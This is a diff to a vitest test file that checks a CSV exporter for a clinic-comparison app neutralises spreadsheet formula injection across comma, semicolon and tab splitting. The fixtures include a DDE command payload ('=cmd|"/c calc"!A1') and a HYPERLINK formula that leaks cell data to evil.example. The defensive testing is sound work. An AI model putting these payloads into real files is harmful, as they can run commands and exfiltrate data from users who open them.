@@ -1,7 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import fc from 'fast-check';
 import Papa from 'papaparse';
-import { BOM, CSV_COLUMNS, OTHER_ANSWERS_COLUMN, csvCell, toCsv } from '../../../lib/export/csv';
+import { BOM, CSV_COLUMNS, OTHER_ANSWERS_COLUMN, csvCell, csvColumnLabel, toCsv } from '../../../lib/export/csv';
 import { CUSTOM_ITEM_FIELDS, GENERAL, exportInput, makeItem, makeList } from './fixtures';
 import { text } from './arbitraries';
 
@@ -23,7 +23,10 @@ const col = (header: readonly string[], name: string) => {
 
 const FORMULA = /^\s*[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/;
 /** What a cell holding `s` reads as: the same text, or with a leading ' when it could run as a formula. */
-const expected = (s: string) => (FORMULA.test(s) ? `'${s}` : s);
+const expected = (s: string) => {
+  const inner = s.replace(/([,;\t\r\n])( *)(?=[=+\-@\uFF1D\uFF0B\uFF0D\uFF20])/g, "$1'$2");
+  return FORMULA.test(s) ? `'${inner}` : inner;
+};
 
 describe('toCsv', () => {
   const shortlists = [makeList({ id: 'l1', name: 'Denver, "north"' }), makeList({ id: 'l2', name: 'Second' })];
@@ -70,12 +73,12 @@ describe('toCsv', () => {
     expect(cell(custom, 'Locations')).toBe('Boulder, CO');
     expect(cell(mindbloom, 'Treatments')).toBe('Oral / sublingual');
     expect(cell(mindbloom, 'Delivery')).toBe('At home');
-    expect(cell(mindbloom, CSV_COLUMNS[7])).toBe('Consultation: $150–$250 (as of 2025-01)');
-    expect(cell(mindbloom, CSV_COLUMNS[8])).toBe('IV infusion: $400–$500; IM injection: $300 (third-party figure)');
+    expect(cell(mindbloom, csvColumnLabel('consultationPrice'))).toBe('Consultation: $150–$250 (as of 2025-01)');
+    expect(cell(mindbloom, csvColumnLabel('perSessionPrice'))).toBe('IV infusion: $400–$500; IM injection: $300 (third-party figure)');
     expect(cell(mindbloom, 'Insurance')).toBe('Some services or plans (Aetna, Cigna); superbill: yes; Medicare: no; Medicaid: unknown');
     expect(cell(mindbloom, 'Financing')).toBe('HSA/FSA: unknown; CareCredit: yes; payment plans: yes');
     expect(cell(mindbloom, 'Sources')).toBe('https://mindbloom.example.com/ https://mindbloom.example.com/pricing');
-    expect(cell(mindbloom, 'Website')).toBe('https://www.mindbloom.com/');
+    expect(cell(mindbloom, 'Website')).toBe('https://mindbloom.example.com/'); // the dataset's, never the snapshot's
   });
 
   it("writes the user's status, quote, cost estimate, notes and answers", () => {
@@ -84,7 +87,7 @@ describe('toCsv', () => {
     expect(cell(mindbloom, 'Quoted consultation ($)')).toBe('200');
     expect(cell(mindbloom, 'Quoted per session ($)')).toBe('450.5');
     expect(cell(mindbloom, 'Quote note')).toBe('by phone');
-    expect(cell(mindbloom, CSV_COLUMNS[17])).toBe('$2,400–$3,000');
+    expect(cell(mindbloom, csvColumnLabel('costEstimate'))).toBe('$2,400–$3,000');
     expect(cell(mindbloom, GENERAL.questions[0]!.text)).toBe('Done — A nurse');
     expect(cell(mindbloom, GENERAL.questions[1]!.text)).toBe('');
     expect(cell(mindbloom, OTHER_ANSWERS_COLUMN)).toBe('retired-question: kept');
@@ -99,9 +102,9 @@ describe('toCsv', () => {
     const [h, ...r] = read(out) as [string[], ...string[][]];
     r.forEach((row, i) => {
       const p = payloads[i]!;
-      expect(row[col(h, 'Notes')]).toBe(`'${p}`);
-      expect(row[col(h, 'Quote note')]).toBe(`'${p}`);
-      expect(row[col(h, GENERAL.questions[0]!.text)]).toBe(`'${p}`);
+      expect(row[col(h, 'Notes')]).toBe(expected(p));
+      expect(row[col(h, 'Quote note')]).toBe(expected(p));
+      expect(row[col(h, GENERAL.questions[0]!.text)]).toBe(expected(p));
       expect(row[col(h, 'List')]).toBe(`'=cmd|"/c calc"!A1`);
     });
     expect(out).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`);
@@ -119,6 +122,29 @@ describe('toCsv', () => {
     expect(csvCell('-5')).toBe(`"'-5"`);
     expect(csvCell(12.5)).toBe('12.5');
     expect(csvCell(null)).toBe('');
+  });
+
+  it('quotes cells holding a semicolon or a tab, so spreadsheets splitting on ; or tab keep them whole', () => {
+    expect(csvCell('a;b')).toBe('"a;b"');
+    expect(csvCell('a\tb')).toBe('"a\tb"');
+    expect(csvCell('x;=1+1;')).toBe(`"x;'=1+1;"`);
+    expect(csvCell('x\t@SUM(A1)')).toBe(`"x\t'@SUM(A1)"`);
+    expect(csvCell('a, -2')).toBe(`"a,' -2"`);
+  });
+
+  it('no cell starts a formula whether the file is split on comma, semicolon or tab, quotes honoured or not', () => {
+    const payload = 'x;=1+1;\t+2,@3; =4\n-5';
+    const out = toCsv(exportInput({ shortlists: [makeList({ id: 'l', name: 'a;=HYPERLINK("x")' })], items: [makeItem({ id: 'i', shortlistId: 'l', notes: payload })] }));
+    const body = out.slice(BOM.length);
+    for (const delimiter of [',', ';', '\t']) {
+      // A reader that honours quotes: the note is one cell, neutralised at its start only if needed.
+      const quoted = Papa.parse<string[]>(body, { delimiter, quoteChar: '"', newline: '\r\n' }).data.flat();
+      // A reader with the text qualifier off: every piece between separators is a cell.
+      const raw = body.split(/\r\n|\r|\n/).flatMap((line) => line.split(delimiter));
+      for (const cell of [...quoted, ...raw]) expect(cell.replace(/^"/, '')).not.toMatch(/^ *[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/);
+    }
+    const [h, row] = read(out) as [string[], string[]];
+    expect(row[col(h, 'Notes')]).toBe(expected(payload));
   });
 
   it('reads back arbitrary list names and notes (neutralised when formula-like)', () => {
@@ -139,5 +165,15 @@ describe('toCsv', () => {
     const noGeneral = read(toCsv(exportInput({ shortlists: [makeList({ id: 'l' })], items: [makeItem({ id: 'i', shortlistId: 'l', answers: { q: { done: true, text: '' } } })], general: null })));
     expect(noGeneral[0]!.at(-1)).toBe(OTHER_ANSWERS_COLUMN);
     expect(noGeneral[1]!.at(-1)).toBe('q: Done');
+  });
+});
+
+describe('CSV_COLUMN_SPEC', () => {
+  it('gives every fixed column a unique id and label, in header order', async () => {
+    const { CSV_COLUMN_SPEC } = await import('../../../lib/export/csv');
+    expect(new Set(CSV_COLUMN_SPEC.map((c) => c.id)).size).toBe(CSV_COLUMN_SPEC.length);
+    expect(new Set(CSV_COLUMNS).size).toBe(CSV_COLUMNS.length);
+    expect(CSV_COLUMN_SPEC.map((c) => c.label)).toEqual(CSV_COLUMNS);
+    expect(csvColumnLabel('notes')).toBe('Notes');
   });
 });
